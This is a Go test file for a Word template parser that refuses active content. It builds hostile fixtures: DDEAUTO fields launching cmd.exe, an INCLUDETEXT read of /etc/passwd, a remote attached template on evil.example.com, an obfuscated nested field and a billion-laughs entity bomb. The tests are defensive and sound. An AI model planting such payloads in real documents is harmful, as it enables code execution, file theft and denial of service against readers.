package docx

import (
	"os"
	"runtime"
	"strings"
	"testing"

	"jixiao/pipeline/opc/opctest"
	"jixiao/templates"
)

// The fixtures are the sample template with parts edited or added the way
// Word writes them: runs with rsids and proofing marks, instruction text
// split mid-word, relationships and content types declared.

const (
	relNS = `xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	relT  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	ctW   = "application/vnd.openxmlformats-officedocument.wordprocessingml."
)

// fieldForms are the ways Word writes one field with instruction instr
// into a paragraph.
var fieldForms = map[string]func(instr string) string{
	"simple": func(instr string) string {
		return `<w:p w:rsidR="00A1"><w:fldSimple w:instr="` + xmlEscape(instr) + `"><w:r><w:t>结果</w:t></w:r></w:fldSimple></w:p>`
	},
	// Complex, the instruction split mid-word over runs and a proofing mark.
	"complex": func(instr string) string {
		cut := len(instr) / 2
		for cut < len(instr) && instr[cut]&0xC0 == 0x80 {
			cut++
		}
		return `<w:p w:rsidR="00B2" w:rsidRDefault="00B2"><w:r><w:t xml:space="preserve">见 </w:t></w:r><w:r w:rsidR="00C3"><w:fldChar w:fldCharType="begin"/></w:r>` +
			`<w:r w:rsidR="00C3"><w:instrText xml:space="preserve">` + xmlEscape(instr[:cut]) + `</w:instrText></w:r><w:proofErr w:type="spellStart"/>` +
			`<w:r w:rsidR="00D4"><w:rPr><w:b/></w:rPr><w:instrText xml:space="preserve">` + xmlEscape(instr[cut:]) + `</w:instrText></w:r><w:proofErr w:type="spellEnd"/>` +
			`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	},
	// The active field nested in a harmless one's result.
	"nested": func(instr string) string {
		return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>` +
			`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">` + xmlEscape(instr) + `</w:instrText></w:r>` +
			`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>内</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>` +
			`<w:r><w:instrText>" "" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>外</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	},
	// In a text box anchored in a paragraph.
	"textbox": func(instr string) string {
		return `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:100pt;height:40pt"><v:textbox><w:txbxContent><w:p><w:r><w:t>框中</w:t></w:r>` +
			`<w:fldSimple w:instr="` + xmlEscape(instr) + `"/></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>`
	},
}

func xmlEscape(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(s)
}

// storyParts are the parts a field can be in, each with what a problem's
// place must say.
var storyParts = []struct {
	place string
	put   func(t *testing.T, paragraph string) []byte
}{
	{"第1段", func(t *testing.T, para string) []byte {
		return opctest.Edit(t, templates.Disclosure, map[string]func(string) string{
			"word/document.xml": func(s string) string { return strings.Replace(s, "<w:body>", "<w:body>"+para, 1) },
		})
	}},
	{"页脚（word/footer1.xml）", func(t *testing.T, para string) []byte {
		return opctest.Edit(t, templates.Disclosure, map[string]func(string) string{
			"word/footer1.xml": func(s string) string { return strings.Replace(s, "</w:ftr>", para+"</w:ftr>", 1) },
		})
	}},
	{"页眉（word/header1.xml）", func(t *testing.T, para string) []byte {
		return withPart(t, "word/header1.xml", ctW+"header+xml", "header", `<w:hdr `+wns+` `+relNS+`>`+para+`</w:hdr>`)
	}},
	{"脚注（word/footnotes.xml）", func(t *testing.T, para string) []byte {
		return withPart(t, "word/footnotes.xml", ctW+"footnotes+xml", "footnotes", `<w:footnotes `+wns+`><w:footnote w:id="1">`+para+`</w:footnote></w:footnotes>`)
	}},
	{"尾注（word/endnotes.xml）", func(t *testing.T, para string) []byte {
		return withPart(t, "word/endnotes.xml", ctW+"endnotes+xml", "endnotes", `<w:endnotes `+wns+`><w:endnote w:id="1">`+para+`</w:endnote></w:endnotes>`)
	}},
	{"批注（word/comments.xml）", func(t *testing.T, para string) []byte {
		return withPart(t, "word/comments.xml", ctW+"comments+xml", "comments", `<w:comments `+wns+`><w:comment w:id="0" w:author="张三">`+para+`</w:comment></w:comments>`)
	}},
	{"文档部件库（构建基块）（word/glossary/document.xml）", func(t *testing.T, para string) []byte {
		return withPart(t, "word/glossary/document.xml", ctW+"document.glossary+xml", "glossaryDocument",
			`<w:glossaryDocument `+wns+`><w:docParts><w:docPart><w:docPartBody>`+para+`</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>`)
	}},
}

// withPart adds a part to the sample template, declared in the content
// types and related from the body, as Word adds one.
func withPart(t *testing.T, name, contentType, relType, body string, more ...string) []byte {
	t.Helper()
	edits := map[string]func(string) string{
		name: opctest.Set(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + body),
		"[Content_Types].xml": func(s string) string {
			return strings.Replace(s, "</Types>", `<Override PartName="/`+name+`" ContentType="`+contentType+`"/></Types>`, 1)
		},
		"word/_rels/document.xml.rels": func(s string) string {
			return strings.Replace(s, "</Relationships>", `<Relationship Id="rIdJx9" Type="`+relT+relType+`" Target="`+strings.TrimPrefix(name, "word/")+`"/>`+strings.Join(more, "")+`</Relationships>`, 1)
		},
	}
	return opctest.Edit(t, templates.Disclosure, edits)
}

func refusal(t *testing.T, raw []byte) []Problem {
	t.Helper()
	_, err := parse("带域的模板.docx", raw)
	te, ok := err.(*TemplateError)
	if !ok {
		t.Fatalf("not refused: %v", err)
	}
	return te.Problems
}

func mentions(problems []Problem, place string, words ...string) bool {
	for _, p := range problems {
		ok := strings.Contains(p.Place, place)
		for _, w := range words {
			ok = ok && strings.Contains(p.Place+p.Msg, w)
		}
		if ok {
			return true
		}
	}
	return false
}

// TestActiveFieldsAreRefusedInEveryPart: a field that runs or fetches is
// refused in each form Word writes it and in each part it can be in, with
// its type and its place named.
func TestActiveFieldsAreRefusedInEveryPart(t *testing.T) {
	instrs := []struct{ instr, kind string }{
		{` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `, "DDEAUTO"},
		{`INCLUDETEXT "/etc/passwd"`, "INCLUDETEXT"},
		{`  includepicture "http://example.com/x.png" \d `, "INCLUDEPICTURE"},
		{`"LINK" Excel.Sheet.12 "C:\\数据\\决算.xlsx" "Sheet1!R1C1" \a`, "LINK"},
		{` DDE excel "C:\\a.xlsx" `, "DDE"},
		{` DATABASE \d "C:\\a.mdb" \s "select * from t" `, "DATABASE"},
		{` MacroButton Normal.NewMacros.Run 点击 `, "MACROBUTTON"},
		{` AUTOTEXT 机密 `, "AUTOTEXT"},
		{` INCLUDE "\\\\server\\share\\a.docx" `, "INCLUDE"},
		{` IMPORT "http://example.com/a.wmf" `, "IMPORT"},
		{` USERNAME `, "USERNAME"},
		{` FILLIN "请输入" `, "FILLIN"},
	}
	n := 0
	for _, part := range storyParts {
		for form, make := range fieldForms {
			in := instrs[n%len(instrs)]
			n++
			problems := refusal(t, part.put(t, make(in.instr)))
			if !mentions(problems, part.place, in.kind+" 域", "Alt+F9") {
				t.Errorf("%s, %s form, %s: %v", part.place, form, in.kind, problems)
			}
		}
	}
	for _, in := range instrs { // every type, in the body's complex form
		if problems := refusal(t, storyParts[0].put(t, fieldForms["complex"](in.instr))); !mentions(problems, "第1段（“见 旧结果”）", "有 "+in.kind+" 域") {
			t.Errorf("%s: %v", in.kind, problems)
		}
	}
}

// TestAFieldWhoseTypeANestedFieldMakesIsRefused: { { QUOTE "DDEAUTO" } … }
// hides the type from any reading of the text.
func TestAFieldWhoseTypeANestedFieldMakesIsRefused(t *testing.T) {
	para := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> </w:instrText></w:r>` +
		`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>` +
		`<w:r><w:instrText xml:space="preserve"> c:\\windows\\system32\\cmd.exe </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	quoted := strings.Replace(para, `<w:instrText xml:space="preserve"> </w:instrText>`, `<w:instrText xml:space="preserve"> "</w:instrText>`, 1)
	for _, p := range []string{para, quoted} {
		if problems := refusal(t, storyParts[0].put(t, p)); !mentions(problems, "第1段", "由嵌套在其中的域生成") {
			t.Errorf("%v", problems)
		}
	}
	// Field code typed as ordinary text between begin and separate.
	asText := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t xml:space="preserve"> INCLUDE</w:t></w:r><w:r><w:t>TEXT "/etc/passwd"</w:t></w:r>` +
		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	if problems := refusal(t, storyParts[0].put(t, asText)); !mentions(problems, "第1段", "有 INCLUDETEXT 域") {
		t.Errorf("%v", problems)
	}
}

// TestHarmlessFieldsStay: page numbers, tables of contents, references,
// hyperlinks and dates read nothing from outside and stay allowed, as does
// an active field's name typed as text.
func TestHarmlessFieldsStay(t *testing.T) {
	for _, instr := range []string{` PAGE `, `NUMPAGES \* Arabic`, ` SECTIONPAGES `, ` TOC \o "1-3" \h \z \u `, ` REF _Ref123 \h `,
		` PAGEREF _Toc1 \h `, ` HYPERLINK "http://www.example.gov.cn/" `, ` DATE \@ "yyyy年M月d日" `, ` SEQ 表 \* ARABIC `, ` = 1+2 `, ` STYLEREF 1 `} {
		for form, make := range fieldForms {
			for _, part := range storyParts[:2] {
				if _, err := parse("t.docx", part.put(t, make(instr))); err != nil {
					t.Errorf("%s in %s, %s form: %v", instr, part.place, form, err)
				}
			}
		}
	}
	text := `<w:p><w:r><w:t>本文不含 DDEAUTO 或 INCLUDETEXT 域。</w:t></w:r></w:p>`
	if _, err := parse("t.docx", storyParts[0].put(t, text)); err != nil {
		t.Error(err)
	}
	if problems, err := activeContent(templates.Disclosure); err != nil || len(problems) > 0 {
		t.Errorf("the sample template: %v %v", problems, err)
	}
}

// TestPackageActiveContentIsRefused: each kind of code, control, object
// or outside link a .docx can carry is refused, named, with where it is.
func TestPackageActiveContentIsRefused(t *testing.T) {
	body := func(para string) map[string]func(string) string {
		return map[string]func(string) string{"word/document.xml": func(s string) string { return strings.Replace(s, "<w:body>", "<w:body>"+para, 1) }}
	}
	rels := func(part, rel string) func(string) string {
		return func(s string) string {
			if s == "" {
				s = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`
			}
			return strings.Replace(s, "</Relationships>", rel+"</Relationships>", 1)
		}
	}
	types := func(entry string) func(string) string {
		return func(s string) string { return strings.Replace(s, "</Types>", entry+"</Types>", 1) }
	}
	merge := func(ms ...map[string]func(string) string) map[string]func(string) string {
		out := map[string]func(string) string{}
		for _, m := range ms {
			for k, v := range m {
				out[k] = v
			}
		}
		return out
	}
	cases := []struct {
		name  string
		edits map[string]func(string) string
		want  []string // place, then words of the message
	}{
		{"remote attached template", map[string]func(string) string{
			"word/settings.xml": func(s string) string {
				return strings.Replace(s, "<w:defaultTabStop", `<w:attachedTemplate r:id="rId1"/><w:defaultTabStop`, 1)
			},
			"word/_rels/settings.xml.rels": rels("", `<Relationship Id="rId1" Type="`+relT+`attachedTemplate" Target="http://evil.example.com/t.dotm" TargetMode="External"/>`),
		}, []string{"文档设置（word/settings.xml）", "附加模板", "http://evil.example.com/t.dotm"}},
		{"local attached template", map[string]func(string) string{
			"word/settings.xml": func(s string) string {
				return strings.Replace(s, "<w:defaultTabStop", `<w:attachedTemplate r:id="rId1"/><w:defaultTabStop`, 1)
			},
			"word/_rels/settings.xml.rels": rels("", `<Relationship Id="rId1" Type="`+relT+`attachedTemplate" Target="file:///C:\Users\a\Normal.dotm" TargetMode="External"/>`),
		}, []string{"文档设置", "附加模板"}},
		{"image linked from outside", merge(body(`<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rIdImg"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`),
			map[string]func(string) string{"word/_rels/document.xml.rels": rels("", `<Relationship Id="rIdImg" Type="`+relT+`image" Target="http://tracker.example.com/p.png" TargetMode="External"/>`)}),
			[]string{"正文（word/document.xml）", "外部的图片", "http://tracker.example.com/p.png"}},
		{"OLE link", merge(body(`<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet.12" r:id="rIdOle" UpdateMode="Always"/></w:object></w:r></w:p>`),
			map[string]func(string) string{"word/_rels/document.xml.rels": rels("", `<Relationship Id="rIdOle" Type="`+relT+`oleObject" Target="file:///C:\数据\决算.xlsx" TargetMode="External"/>`)}),
			[]string{"第1段", "OLE 对象"}},
		{"subdocument", merge(body(`<w:p><w:subDoc r:id="rIdSub"/></w:p>`),
			map[string]func(string) string{"word/_rels/document.xml.rels": rels("", `<Relationship Id="rIdSub" Type="`+relT+`subDocument" Target="file:///C:\sub.docx" TargetMode="External"/>`)}),
			[]string{"第1段", "子文档"}},
		{"altChunk", merge(body(`<w:altChunk r:id="rIdChunk"/>`), map[string]func(string) string{
			"word/_rels/document.xml.rels": rels("", `<Relationship Id="rIdChunk" Type="`+relT+`aFChunk" Target="chunk.html"/>`),
			"word/chunk.html":              opctest.Set(`<html><body><img src="http://example.com/x.png"></body></html>`),
			"[Content_Types].xml":          types(`<Default Extension="html" ContentType="text/html"/>`),
		}), []string{"正文", "altChunk"}},
		{"frames", map[string]func(string) string{
			"word/webSettings.xml":            opctest.Set(`<w:webSettings ` + wns + ` ` + relNS + `><w:frameset><w:frame><w:sourceFileName r:id="rIdF"/></w:frame></w:frameset></w:webSettings>`),
			"word/_rels/webSettings.xml.rels": rels("", `<Relationship Id="rIdF" Type="`+relT+`frame" Target="http://example.com/f.htm" TargetMode="External"/>`),
		}, []string{"网页设置", "框架"}},
		{"macros", map[string]func(string) string{
			"word/vbaProject.bin":          opctest.Set("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 VBA"),
			"word/vbaData.xml":             opctest.Set(`<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`),
			"word/_rels/document.xml.rels": rels("", `<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`),
			"[Content_Types].xml": func(s string) string {
				return strings.Replace(types(`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`)(s), ctW+"document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", 1)
			},
		}, []string{"word/vbaProject.bin", "宏"}},
		{"macro-enabled type alone", map[string]func(string) string{
			"[Content_Types].xml": func(s string) string {
				return strings.Replace(s, ctW+"document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", 1)
			},
		}, []string{"文件类型清单", ".docm"}},
		{"vbaData alone", map[string]func(string) string{
			"word/vbaData.xml": opctest.Set(`<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`),
		}, []string{"word/vbaData.xml", "宏的数据"}},
		{"key map customizations", map[string]func(string) string{
			"word/customizations.xml":      opctest.Set(`<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0441"><wne:macro wne:macroName="NORMAL.NEWMACROS.RUN"/></wne:keymap></wne:keymaps></wne:tcg>`),
			"word/_rels/document.xml.rels": rels("", `<Relationship Id="rIdKm" Type="http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations" Target="customizations.xml"/>`),
		}, []string{"customizations.xml", "快捷键"}},
		{"ActiveX", merge(body(`<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CommandButton1"/></w:object></w:r></w:p>`), map[string]func(string) string{
			"word/activeX/activeX1.xml":    opctest.Set(`<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStream" r:id="rId1" ` + relNS + `/>`),
			"word/activeX/activeX1.bin":    opctest.Set("binary"),
			"word/_rels/document.xml.rels": rels("", `<Relationship Id="rIdAx" Type="`+relT+`control" Target="activeX/activeX1.xml"/>`),
		}), []string{"第1段", "ActiveX 控件"}},
		{"embedded OLE object", merge(body(`<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="960"><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="rIdEmb"/></w:object></w:r></w:p>`), map[string]func(string) string{
			"word/embeddings/oleObject1.bin": opctest.Set("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
			"word/_rels/document.xml.rels":   rels("", `<Relationship Id="rIdEmb" Type="`+relT+`oleObject" Target="embeddings/oleObject1.bin"/>`),
		}), []string{"第1段", "OLE"}},
		{"mail merge", map[string]func(string) string{
			"word/settings.xml": func(s string) string {
				return strings.Replace(s, "<w:defaultTabStop", `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/><w:connectString w:val="DSN=x"/><w:query w:val="SELECT * FROM t"/></w:mailMerge><w:defaultTabStop`, 1)
			},
		}, []string{"文档设置", "邮件合并"}},
		{"form field macro", body(`<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/><w:entryMacro w:val="AutoRun"/></w:ffData></w:fldChar></w:r><w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`),
			[]string{"第1段", "窗体域的宏"}},
		{"odd namespace prefix", body(`<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDEAUTO cmd"/></x:p>`),
			[]string{"正文", "前缀 w:"}},
	}
	for _, c := range cases {
		problems := refusal(t, opctest.Edit(t, templates.Disclosure, c.edits))
		if !mentions(problems, c.want[0], c.want[1:]...) {
			t.Errorf("%s: %v", c.name, problems)
		}
	}
}

// TestHyperlinksStay: a link to a web page is no content from outside.
func TestHyperlinksStay(t *testing.T) {
	raw := opctest.Edit(t, templates.Disclosure, map[string]func(string) string{
		"word/document.xml": func(s string) string {
			return strings.Replace(s, "<w:body>", `<w:body><w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>财政局网站</w:t></w:r></w:hyperlink></w:p>`, 1)
		},
		"word/_rels/document.xml.rels": func(s string) string {
			return strings.Replace(s, "</Relationships>", `<Relationship Id="rIdLink" Type="`+relT+`hyperlink" Target="http://www.example.gov.cn/" TargetMode="External"/></Relationships>`, 1)
		},
	})
	if _, err := parse("link.docx", raw); err != nil {
		t.Error(err)
	}
}

// billionLaughs is an entity loop of under 1 KB that a parser expanding
// it would make into gigabytes.
const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
	`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">` +
	`<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">` +
	`<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">` +
	`<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>`

// TestDoctypeIsRefusedUnexpanded: a DOCTYPE in any part, the package's
// own lists too, is refused, and an entity loop is not expanded.
func TestDoctypeIsRefusedUnexpanded(t *testing.T) {
	if len(billionLaughs) >= 1024 {
		t.Fatalf("the loop is %d bytes", len(billionLaughs))
	}
	for _, part := range []string{"word/document.xml", "word/styles.xml", "word/footer2.xml", "word/settings.xml", "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "docProps/core.xml"} {
		raw := opctest.Edit(t, templates.Disclosure, map[string]func(string) string{part: func(s string) string {
			_, root, _ := strings.Cut(s, "?>")
			return billionLaughs + root + "&lol9;"
		}})
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		problems := refusal(t, raw)
		runtime.ReadMemStats(&after)
		if !mentions(problems, part, "<!DOCTYPE") {
			t.Errorf("%s: %v", part, problems)
		}
		if grown := after.TotalAlloc - before.TotalAlloc; grown > 64<<20 {
			t.Errorf("%s: refusing allocated %d MB", part, grown>>20)
		}
	}
}

// TestAWholeSectionIsNotPrinted: {{.}} and a tag naming a section print
// Go's dump of the data; they are refused, with the tag and paragraph.
func TestAWholeSectionIsNotPrinted(t *testing.T) {
	for old, want := range map[string]string{
		"{{.县}}{{.年度}}年": "第1段（“{{.}}{{.年度}}…”）：{{.}} 是一组字段（整个部分）",
		"{{.事前评价.项目数}}":  "{{.事前评价}} 是一组字段（整个部分），打印出来是程序内部的格式，不是文字；请写出其中要打印的字段，如 .事前评价.",
	} {
		replacement := strings.Replace(strings.Replace(old, "{{.县}}", "{{.}}", 1), "{{.事前评价.项目数}}", "{{.事前评价}}", 1)
		raw := opctest.Edit(t, templates.Disclosure, map[string]func(string) string{
			"word/document.xml": func(s string) string { return strings.Replace(s, old, replacement, 1) },
		})
		_, err := parse("整节.docx", raw)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", replacement, err)
		}
	}
}

// TestReadmeNamesEveryRefusedField keeps the README's list of refused
// fields in step with the check.
func TestReadmeNamesEveryRefusedField(t *testing.T) {
	raw, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	for name := range activeFields {
		if !strings.Contains(string(raw), "`"+name+"`") {
			t.Errorf("README does not name the refused field %s", name)
		}
	}
}

// TestObjectsAndControlsAreRefusedInEveryPart: an OLE object, an ActiveX
// control or a linked sub-document is found wherever a paragraph can be.
func TestObjectsAndControlsAreRefusedInEveryPart(t *testing.T) {
	paras := map[string]string{
		"OLE 对象":     `<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="960"><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="_x0000_i1025"/><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Equation.3" ShapeID="_x0000_i1025"/></w:object></w:r></w:p>`,
		"ActiveX 控件": `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="CommandButton1"/></w:pict><w:control w:name="CommandButton1" w:shapeid="CommandButton1"/></w:r></w:p>`,
		"子文档":        `<w:p><w:subDoc/></w:p>`,
	}
	for _, part := range storyParts {
		for what, para := range paras {
			if problems := refusal(t, part.put(t, para)); !mentions(problems, part.place, "有", what) {
				t.Errorf("%s in %s: %v", what, part.place, problems)
			}
		}
	}
}
